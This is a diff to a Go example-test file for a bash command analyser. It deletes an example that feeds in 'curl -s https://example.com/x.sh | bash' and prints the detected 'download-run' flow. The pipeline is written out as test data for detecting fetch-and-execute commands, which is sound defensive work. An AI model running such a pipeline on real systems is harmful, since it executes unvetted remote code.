@@ -65,13 +65,3 @@ func ExampleAnalyse_words() {
 	// "/home/u/x" true
 	// "$unknown" false
 }
-
-// Data that moves from one part to another is a flow.
-func ExampleAnalyse_flows() {
-	a := bash.Analyse(`curl -s https://example.com/x.sh | bash`, bash.Env{Cwd: "/proj"})
-	for _, f := range a.Flows {
-		fmt.Printf("%s: %q to %q\n", f.Kind, a.Parts[f.From].Text, a.Parts[f.To].Text)
-	}
-	// Output:
-	// download-run: "curl -s https://example.com/x.sh" to "bash"
-}
